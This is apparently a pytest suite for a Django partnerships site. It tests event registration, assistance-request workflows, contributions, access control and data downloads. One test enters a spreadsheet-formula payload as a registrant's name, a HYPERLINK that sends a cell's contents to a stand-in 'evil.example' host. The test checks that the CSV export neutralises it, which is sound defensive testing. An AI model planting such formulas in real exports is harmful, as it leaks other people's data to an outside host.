"""Cooperation pages through the Django test client: events with registration and participant counts, assistance
requests from filing to assignment, contributions with their search and documents; bad input writes nothing."""

import csv
import io
import json

import pytest

from wsis.partnerships.cooperation import services as cooperation_services
from wsis.partnerships.models import (
    AssistanceRequest,
    AttendanceCount,
    Contribution,
    Document,
    EventDetail,
    Registration,
    RequestStep,
    Session,
)
from wsis.testing.factories import active_plan, published_activity

pytestmark = pytest.mark.django_db

EVENTS = "/en/partnerships/events/"
REQUESTS = "/en/partnerships/requests/"
CONTRIBUTIONS = "/en/partnerships/contributions/"


@pytest.fixture
def coop(funding, settings, tmp_path):
    """The partnership fixtures plus a Kenyan focal point, an open training in Kenya and an active plan."""
    from wsis.accounts.models import Role, User
    from wsis.accounts.services import role_grant, user_create
    from wsis.reference.models import Economy

    settings.MEDIA_ROOT = tmp_path / "media"
    admin = funding["admin"]
    focal = user_create(actor=admin, username="ke_focal", organisation=funding["ministry"], email="focal@example.org")
    role_grant(actor=admin, user=focal, role=Role.FOCAL_POINT, economy=Economy.objects.get(iso3="KEN"))
    training = published_activity(admin, kind="training", status="completed", start_date="2025-03-10",
                                  end_date="2025-03-12",
                                  texts={"en": {"title": "Digital skills for women in Kenya", "summary": "A training.",
                                                "description": ""}})
    cooperation_services.event_save(actor=admin, activity=training, data={
        "mode": "hybrid", "venue": "Nairobi", "online_url": "https://example.org/live", "registration_open": True,
        "capacity": "30"})
    plan = active_plan(admin)
    return {**funding, "focal": User.objects.get(pk=focal.pk), "training": training, "plan": plan}


def text(resp) -> str:
    return resp.content.decode()


def csv_rows(resp) -> list[dict]:
    return list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))


# ---------------------------------------------------------------------------------------------- every page

def test_pages_render_for_the_public_and_members_in_english_and_arabic(client, coop):
    t = coop["training"]
    c = cooperation_services.contribution_create(actor=coop["author"], data={
        "symbol": "SG1RGQ/1", "body": "sg1", "meeting": "SG1 Rapporteur Group", "date": "2025-04-01",
        "title": "Broadband in rural Kenya", "language": "en", "sources": [coop["ministry"].pk]})
    r = cooperation_services.request_create(actor=coop["focal"], data={
        "economy": "KEN", "title": "Spectrum policy review", "description": "Help us.", "action_lines": ["C2"]})
    public = [EVENTS, f"{EVENTS}{t.pk}/", REQUESTS, CONTRIBUTIONS, f"{CONTRIBUTIONS}{c.pk}/"]
    for lang in ("en", "ar"):
        for url in public:
            url = url.replace("/en/", f"/{lang}/")
            resp = client.get(url)
            assert resp.status_code == 200, url
            assert ('dir="rtl"' in text(resp)) == (lang == "ar")
            assert 'aria-label="Partnerships"' in text(resp) or lang == "ar"
    assert client.get(f"{REQUESTS}{r.pk}/").status_code == 404
    for url in (f"{EVENTS}{t.pk}/manage/", f"{REQUESTS}new/", f"{CONTRIBUTIONS}new/", f"{CONTRIBUTIONS}{c.pk}/edit/"):
        resp = client.get(url)
        assert resp.status_code == 302 and "/accounts/login/" in resp["Location"], url
    for who, urls in (
            ("focal", public + [f"{REQUESTS}{r.pk}/", f"{REQUESTS}new/"]),
            ("author", public + [f"{EVENTS}{t.pk}/manage/", f"{CONTRIBUTIONS}new/", f"{CONTRIBUTIONS}{c.pk}/edit/",
                                 f"{REQUESTS}{r.pk}/"]),
            ("officer", public + [f"{REQUESTS}{r.pk}/", f"{EVENTS}{t.pk}/manage/"])):
        client.force_login(coop[who])
        for lang in ("en", "ar"):
            for url in urls:
                url = url.replace("/en/", f"/{lang}/")
                assert client.get(url).status_code == 200, (who, url)
    # A page that is not an event, and an event nobody may see, are not found.
    assert client.get(f"{EVENTS}{coop['activity'].pk}/").status_code == 404
    assert client.get(f"{EVENTS}999999/").status_code == 404


def test_strangers_neither_see_others_requests_nor_manage_events(client, coop):
    r = cooperation_services.request_create(actor=coop["focal"], data={
        "economy": "KEN", "title": "Spectrum policy review", "description": "Help us.", "action_lines": ["C2"]})
    client.force_login(coop["stranger"])
    assert client.get(f"{REQUESTS}{r.pk}/").status_code == 404
    assert "Spectrum policy review" not in text(client.get(REQUESTS))
    assert client.post(f"{REQUESTS}{r.pk}/", {"action": "assess"}).status_code == 404
    t = coop["training"]
    assert client.get(f"{EVENTS}{t.pk}/manage/").status_code == 403
    assert client.post(f"{EVENTS}{t.pk}/manage/", {"do": "count"}).status_code == 403
    assert client.get(f"{EVENTS}{t.pk}/manage/", {"format": "csv"}).status_code == 403
    # The stranger's administration has no economy: it files for nobody.
    assert client.get(f"{REQUESTS}new/").status_code == 403
    # The focal point sees the request but may not handle it.
    client.force_login(coop["focal"])
    page = text(client.get(f"{REQUESTS}{r.pk}/"))
    assert "Spectrum policy review" in page and "Handle this request" not in page
    assert client.post(f"{REQUESTS}{r.pk}/", {"action": "assess"}).status_code == 403
    assert AssistanceRequest.objects.get().state == "received"


# ---------------------------------------------------------------------------------------------- events

def test_events_list_summary_filters_and_downloads(client, coop):
    admin, t = coop["admin"], coop["training"]
    cooperation_services.attendance_set(actor=admin, activity=t, cells=[
        {"sex": "F", "stakeholder": "member_state", "economy": "KEN", "count": 12},
        {"sex": "M", "stakeholder": "member_state", "economy": "KEN", "count": 6},
        {"sex": "F", "stakeholder": "academia", "economy": "UGA", "count": 2}])
    other = published_activity(admin, kind="event", start_date="2024-06-01", economies=["FRA"], scope="national",
                               texts={"en": {"title": "Cybersecurity forum in Paris", "summary": "",
                                             "description": ""}})
    page = text(client.get(EVENTS))
    assert "Digital skills for women in Kenya" in page and "Cybersecurity forum in Paris" in page
    assert "20 participants reported for 1 of 2 trainings and events." in page
    assert "Women&#x27;s share: 70.0 per cent." in page or "Women's share: 70.0 per cent." in page
    assert "Academia" in page and "Uganda" in page
    page = text(client.get(EVENTS, {"year": "2024"}))
    assert "Cybersecurity forum in Paris" in page and "Digital skills for women" not in page
    page = text(client.get(EVENTS, {"region": "AFR"}))
    assert "Digital skills for women" in page and "Cybersecurity forum" not in page
    rows = csv_rows(client.get(EVENTS, {"region": "AFR", "format": "csv"}))
    assert len(rows) == 1 and rows[0]["participants"] == "20" and rows[0]["women"] == "14"
    assert rows[0]["mode"] == "hybrid" and rows[0]["registration_open"] == "true"
    data = json.loads(client.get(EVENTS, {"year": "2024", "format": "json"}).content)
    assert data["count"] == 1 and data["results"][0]["id"] == other.pk and data["results"][0]["participants"] is None
    assert client.get(EVENTS, {"format": "xlsx"}).content[:2] == b"PK"
    # A nonsense year is refused on the page (said, nothing listed) instead of failing it; a blank one is no filter.
    resp = client.get(EVENTS, {"year": "abc"})
    assert resp.status_code == 200 and "year: " in text(resp) and "Cybersecurity forum" not in text(resp)
    assert "Cybersecurity forum" in text(client.get(EVENTS, {"year": "", "region": ""}))


def test_event_page_shows_sessions_counts_and_public_registration(client, coop):
    admin, t = coop["admin"], coop["training"]
    cooperation_services.session_add(actor=admin, activity=t, data={"title": "Opening", "starts_at": "2025-03-10T09:00",
                                                        "ends_at": "2025-03-10T10:00"})
    cooperation_services.attendance_set(actor=admin, activity=t, cells=[
        {"sex": "F", "stakeholder": "civil_society", "economy": "KEN", "count": 3},
        {"sex": "O", "stakeholder": "civil_society", "economy": "", "count": 1}])
    page = text(client.get(f"{EVENTS}{t.pk}/"))
    assert "Opening" in page and "2025-03-10 09:00" in page and "Nairobi" in page and "https://example.org/live" in page
    assert "Participants by stakeholder type and sex" in page and "Civil society" in page
    assert f'href="/en/activities/{t.pk}/"' in page and "Register for this event" in page
    assert "Manage this event" not in page

    form = {"name": "Amina W.", "email": "amina@example.org", "sex": "F", "stakeholder": "civil_society",
            "economy": "KEN", "organisation_name": "Women in ICT Kenya"}
    resp = client.post(f"{EVENTS}{t.pk}/register/", form, follow=True)
    assert "Thank you, Amina W.: you are registered." in text(resp)
    reg = Registration.objects.get()
    assert reg.economy.iso3 == "KEN" and reg.organisation_name == "Women in ICT Kenya" and reg.status == "registered"

    resp = client.post(f"{EVENTS}{t.pk}/register/", {**form, "email": "AMINA@example.org", "name": "Again"})
    page = text(resp)
    assert resp.status_code == 200 and "email: this address is already registered for this event" in page
    assert 'value="Again"' in page and 'id="reg-email" name="email" type="email" autocomplete="email" required value="AMINA@example.org" aria-invalid="true"' in page
    resp = client.post(f"{EVENTS}{t.pk}/register/", {**form, "email": "x@example.org", "economy": "XXX"})
    assert "economy: unknown economy &#x27;XXX&#x27;" in text(resp)
    resp = client.post(f"{EVENTS}{t.pk}/register/", {**form, "email": "y@example.org", "sex": "", "name": ""})
    assert "name: give your name" in text(resp) and "sex: required" in text(resp)
    assert Registration.objects.count() == 1

    cooperation_services.event_save(actor=admin, activity=t, data={"mode": "online", "online_url": "https://example.org/live"})
    page = text(client.get(f"{EVENTS}{t.pk}/"))
    assert "Register for this event" not in page
    resp = client.post(f"{EVENTS}{t.pk}/register/", {**form, "email": "late@example.org"})
    assert "Registration for this event is not open." in text(resp) and Registration.objects.count() == 1


def test_manage_page_writes_through_the_services(client, coop):
    t = coop["training"]
    url = f"{EVENTS}{t.pk}/manage/"
    client.force_login(coop["author"])
    resp = client.post(url, {"do": "event", "mode": "in_person", "venue": "", "capacity": "x", "certificates_issued": "0"})
    page = text(resp)
    assert "venue: an in-person or hybrid event needs a venue" in page and "capacity: &#x27;x&#x27; is not a whole" in page
    assert EventDetail.objects.get(activity=t).mode == "hybrid"
    resp = client.post(url, {"do": "event", "mode": "in_person", "venue": "Mombasa", "capacity": "2",
                             "certificates_issued": "0", "registration_open": "1"})
    assert resp.status_code == 302
    ev = EventDetail.objects.get(activity=t)
    assert (ev.mode, ev.venue, ev.capacity, ev.registration_open) == ("in_person", "Mombasa", 2, True)

    resp = client.post(url, {"do": "session", "title": "Lab", "starts_at": "2025-03-11T14:00",
                             "ends_at": "2025-03-11T13:00", "venue": "Room 2"})
    page = text(resp)
    assert "ends_at: a session ends after it starts" in page and 'value="Room 2"' in page
    assert not Session.objects.exists()
    assert client.post(url, {"do": "session", "title": "Lab", "starts_at": "2025-03-11T14:00",
                             "ends_at": "2025-03-11T16:00", "online": "1"}).status_code == 302
    assert Session.objects.get().online

    grid = {"do": "attendance", "rows": "3", "sex-0": "F", "stakeholder-0": "member_state", "economy-0": "ken",
            "count-0": "5", "sex-1": "", "stakeholder-1": "", "economy-1": "", "count-1": "",
            "sex-2": "M", "stakeholder-2": "member_state", "economy-2": "ZZZ", "count-2": "two"}
    page = text(client.post(url, grid))
    assert "row 3, economy: unknown economy &#x27;ZZZ&#x27;" in page and "row 3, count:" in page
    assert 'value="two"' in page and not AttendanceCount.objects.exists()
    grid.update({"economy-2": "UGA", "count-2": "4"})
    assert client.post(url, grid).status_code == 302
    assert sorted(AttendanceCount.objects.values_list("economy__iso3", "count")) == [("KEN", 5), ("UGA", 4)]

    for email in ("a@example.org", "b@example.org"):
        cooperation_services.registration_create(activity=t, data={"name": email[0], "email": email, "sex": "F",
                                                        "stakeholder": "academia", "economy": "KEN"})
    reg = Registration.objects.get(email="a@example.org")
    page = text(client.post(url, {"do": "registration", "registration": reg.pk, "status": "registered",
                                  "certificate": "1"}, follow=True))
    assert "certificate: a certificate goes to a participant who attended" in page
    assert client.post(url, {"do": "registration", "registration": reg.pk, "status": "attended",
                             "certificate": "1"}).status_code == 302
    reg.refresh_from_db()
    assert reg.status == "attended" and reg.certificate
    page = text(client.get(url))
    assert "a@example.org" in page and "2 registrations" in page
    rows = csv_rows(client.get(url, {"format": "csv"}))
    assert [(r["email"], r["status"], r["certificate"]) for r in rows] == [
        ("a@example.org", "attended", "true"), ("b@example.org", "registered", "false")]
    resp = client.post(url, {"do": "count"}, follow=True)
    assert "Participants counted from the registrations marked attended: 1." in text(resp)
    assert list(AttendanceCount.objects.values_list("sex", "stakeholder", "count")) == [("F", "academia", 1)]
    assert EventDetail.objects.get(activity=t).certificates_issued == 1
    # The event is full (two places), so a third person is refused.
    resp = client.post(f"{EVENTS}{t.pk}/register/", {"name": "C", "email": "c@example.org", "sex": "M",
                                                      "stakeholder": "academia"})
    assert "This event is full." in text(resp) and Registration.objects.count() == 2


def test_names_typed_at_registration_stay_text_in_the_registrations_download(client, coop):
    """A name or organisation typed as a formula by the public reaches the managers' CSV guarded, as typed."""
    t = coop["training"]
    name, org = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")', "+SUM(A1:A9)"
    resp = client.post(f"{EVENTS}{t.pk}/register/", {"name": name, "email": "x@example.org", "sex": "F",
                                                      "stakeholder": "academia", "economy": "KEN",
                                                      "organisation_name": org})
    assert resp.status_code == 302 and Registration.objects.get().name == name
    client.force_login(coop["admin"])
    resp = client.get(f"{EVENTS}{t.pk}/manage/", {"format": "csv"})
    assert resp.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]
    assert "'" + name in cells and "'" + org in cells and name not in cells and org not in cells
    rows = csv_rows(resp)
    assert list(rows[0]) == ["id", "name", "email", "sex", "stakeholder", "economy", "organisation", "status",
                             "certificate", "registered_at"]


# ---------------------------------------------------------------------------------------------- requests

def test_request_filed_assessed_assigned_and_followed(client, coop):
    from wsis.planning.models import Output

    client.force_login(coop["focal"])
    form = {"economy": "KEN", "title": "Spectrum policy review", "description": "We need help.", "language": "en"}
    page = text(client.get(f"{REQUESTS}new/"))
    assert 'value="KEN" selected' in page and "C2 —" in page
    resp = client.post(f"{REQUESTS}new/", form)
    assert "action_lines: tie the request to at least one WSIS action line" in text(resp)
    assert 'value="Spectrum policy review"' in text(resp) and not AssistanceRequest.objects.exists()
    resp = client.post(f"{REQUESTS}new/", {**form, "economy": "FRA", "action_lines": ["C2"]})
    assert resp.status_code == 200 and "may file its requests" in text(resp) and not AssistanceRequest.objects.exists()
    resp = client.post(f"{REQUESTS}new/", {**form, "action_lines": ["C2", "C6"]})
    r = AssistanceRequest.objects.get()
    assert resp.status_code == 302 and resp["Location"].endswith(f"/partnerships/requests/{r.pk}/")
    assert r.requester == coop["ministry"] and sorted(r.action_lines.values_list("code", flat=True)) == ["C2", "C6"]

    client.force_login(coop["officer"])
    url = f"{REQUESTS}{r.pk}/"
    page = text(client.get(url))
    assert "Mark assessed" in page and "Decline" in page and "Assign" not in page.split("Handle this request")[1]
    assert client.post(url, {"action": "assess", "comment": "Within the AFR plan."}).status_code == 302
    page = text(client.get(url))
    assert 'name="office"' in page and "O1.1 · Rural sites" in page
    out = Output.objects.get(code="O1.1")
    resp = client.post(url, {"action": "assign", "comment": "To the regional office.", "office": "",
                             "output": str(out.pk)})
    page = text(resp)
    assert "office: name the office that will deliver the help" in page
    assert f'value="{out.pk}" selected' in page and AssistanceRequest.objects.get().state == "assessed"
    resp = client.post(url, {"action": "assign", "comment": "To the regional office.",
                             "office": coop["ministry"].pk, "output": str(out.pk)})
    assert "office: the office must be a BDT unit or an ITU regional office" in text(resp)
    ro = out.office
    assert client.post(url, {"action": "assign", "comment": "To the regional office.", "office": ro.pk,
                             "output": out.pk}).status_code == 302
    r.refresh_from_db()
    assert (r.state, r.office, r.output) == ("assigned", ro, out)
    page = text(client.post(url, {"do": "link", "activities": "12, abc"}))
    assert "Give activity numbers separated by commas" in page and 'value="12, abc"' in page
    page = text(client.post(url, {"do": "link", "activities": "999999"}))
    assert "activities: unknown activity #999999" in page and not r.activities.exists()
    assert client.post(url, {"do": "link", "activities": f"#{coop['activity'].pk}"}).status_code == 302
    assert list(r.activities.all()) == [coop["activity"]]
    resp = client.post(url, {"action": "decline", "comment": ""})
    assert "comment: say why the request is declined" in text(resp)

    client.force_login(coop["focal"])
    page = text(client.get(url))
    assert "Within the AFR plan." in page and "To the regional office." in page
    assert "Received → Assessed" in page and "Assessed → Assigned" in page and "afr_officer" in page
    assert "Time in each state" in page and "O1.1 · Rural sites" in page and ro.name in page
    assert "National broadband plan for Kenya" in page
    assert RequestStep.objects.count() == 3


def test_request_list_filters_and_downloads(client, coop):
    focal = coop["focal"]
    a = cooperation_services.request_create(actor=focal, data={"economy": "KEN", "title": "Spectrum policy review",
                                                   "description": "x", "action_lines": ["C2"]})
    b = cooperation_services.request_create(actor=focal, data={"economy": "KEN", "title": "Cyber drills",
                                                   "description": "x", "action_lines": ["C5"]})
    cooperation_services.request_transition(actor=coop["officer"], request=b, action="decline", comment="Out of scope.")
    client.force_login(focal)
    page = text(client.get(REQUESTS))
    assert "Spectrum policy review" in page and "Cyber drills" in page and "File a request" in page
    page = text(client.get(REQUESTS, {"state": "open"}))
    assert "Spectrum policy review" in page and "Cyber drills" not in page
    page = text(client.get(REQUESTS, {"state": "declined"}))
    assert "Cyber drills" in page and "Spectrum policy review" not in page
    assert "Spectrum" not in text(client.get(REQUESTS, {"region": "EUR"}))
    assert "Spectrum" in text(client.get(REQUESTS, {"region": "AFR", "economy": "KEN"}))
    rows = csv_rows(client.get(REQUESTS, {"state": "open", "format": "csv"}))
    assert [r["id"] for r in rows] == [str(a.pk)] and rows[0]["economy"] == "KEN" and rows[0]["days_received"] != ""
    assert rows[0]["days_declined"] == "" and rows[0]["action_lines"] == "C2"
    data = json.loads(client.get(REQUESTS, {"format": "json", "state": "declined"}).content)
    assert data["count"] == 1 and data["results"][0]["state"] == "declined"
    assert client.get(REQUESTS, {"format": "xlsx"}).content[:2] == b"PK"
    client.logout()
    assert "Spectrum" not in text(client.get(REQUESTS))
    assert json.loads(client.get(REQUESTS, {"format": "json"}).content)["count"] == 0


# ---------------------------------------------------------------------------------------------- contributions

def contribution_form(coop, **over):
    data = {"symbol": "SG1RGQ/7", "body": "sg1", "question": "5/1", "meeting": "SG1 Rapporteur Group, 2025",
            "date": "2025-04-01", "title": "Broadband in rural Kenya", "summary": "Lessons from 40 sites.",
            "language": "en", "sources": [str(coop["ministry"].pk)], "action_lines": ["C2"],
            "sdg_targets": ["9.c"]}
    data.update(over)
    return data


def test_contribution_record_search_edit_and_attach(client, coop):
    client.force_login(coop["author"])
    page = text(client.get(f"{CONTRIBUTIONS}new/"))
    assert f'value="{coop["ministry"].pk}" selected' in page
    resp = client.post(f"{CONTRIBUTIONS}new/", contribution_form(coop, symbol="", sources=["999999"]))
    page = text(resp)
    assert "symbol: required" in page and "sources: unknown organisation #999999" in page
    assert 'value="Broadband in rural Kenya"' in page and not Contribution.objects.exists()
    resp = client.post(f"{CONTRIBUTIONS}new/", contribution_form(coop, sdg_targets=["99.z"]))
    assert "sdg_targets: unknown SDG target &#x27;99.z&#x27;" in text(resp) and not Contribution.objects.exists()
    resp = client.post(f"{CONTRIBUTIONS}new/", contribution_form(coop))
    c = Contribution.objects.get()
    assert resp.status_code == 302 and resp["Location"].endswith(f"/partnerships/contributions/{c.pk}/")
    cooperation_services.contribution_create(actor=coop["admin"], data=contribution_form(
        coop, symbol="TDAG-25/3", body="tdag", question="", date="2024-11-05", title="Prioridades de TDAG",
        summary="", language="es", sources=[coop["eu"].pk], action_lines=["C11"], sdg_targets=[]))

    assert "2 contributions" in text(client.get(CONTRIBUTIONS))
    for params, found in (({"q": "RURAL kenya"}, "SG1RGQ/7"), ({"body": "tdag"}, "TDAG-25/3"),
                          ({"line": "C2"}, "SG1RGQ/7"), ({"target": "9.c"}, "SG1RGQ/7"),
                          ({"language": "es"}, "TDAG-25/3"), ({"year": "2024"}, "TDAG-25/3"),
                          ({"source": coop["eu"].pk}, "TDAG-25/3")):
        page = text(client.get(CONTRIBUTIONS, params))
        assert "1 contribution\n" in page and found in page, params
        rows = json.loads(client.get(CONTRIBUTIONS, {**params, "format": "json"}).content)["results"]
        assert [r["symbol"] for r in rows] == [found], params
    rows = csv_rows(client.get(CONTRIBUTIONS, {"body": "sg1", "format": "csv"}))
    assert rows[0]["symbol"] == "SG1RGQ/7" and rows[0]["sources"] == "Ministry of ICT (test)"
    assert client.get(CONTRIBUTIONS, {"format": "xlsx"}).content[:2] == b"PK"

    url = f"{CONTRIBUTIONS}{c.pk}/edit/"
    form = contribution_form(coop, title="Broadband in rural Kenya (revised)", symbol="TDAG-25/3")
    assert "symbol: a contribution with symbol TDAG-25/3 exists" in text(client.post(url, form))
    assert Contribution.objects.get(pk=c.pk).title == "Broadband in rural Kenya"
    assert client.post(url, {**form, "symbol": "SG1RGQ/7"}).status_code == 302
    assert Contribution.objects.get(pk=c.pk).title == "Broadband in rural Kenya (revised)"

    from django.core.files.uploadedfile import SimpleUploadedFile

    detail = f"{CONTRIBUTIONS}{c.pk}/"
    page = text(client.post(detail, {"title": "Slides"}))
    assert "Choose a file to attach." in page and not Document.objects.exists()
    empty = SimpleUploadedFile("empty.pdf", b"", content_type="application/pdf")
    assert "file: the file empty.pdf is empty" in text(client.post(detail, {"file": empty}))
    upload = SimpleUploadedFile("slides.pdf", b"%PDF-1.4 test", content_type="application/pdf")
    assert client.post(detail, {"file": upload, "title": "Slides"}).status_code == 302
    doc = Document.objects.get()
    page = text(client.get(detail))
    assert f'href="/en/partnerships/documents/{doc.pk}/"' in page and "Slides" in page and "9.c" in page

    client.force_login(coop["stranger"])
    assert client.get(url).status_code == 403
    upload = SimpleUploadedFile("x.pdf", b"x", content_type="application/pdf")
    assert client.post(detail, {"file": upload}).status_code == 403
    assert "Attach a document" not in text(client.get(detail))
    # The stranger's organisation is not among the sources, so recording for the ministry is refused.
    resp = client.post(f"{CONTRIBUTIONS}new/", contribution_form(coop, symbol="SG2/1"))
    assert "Your organisation must be among the sources" in text(resp) and Contribution.objects.count() == 2
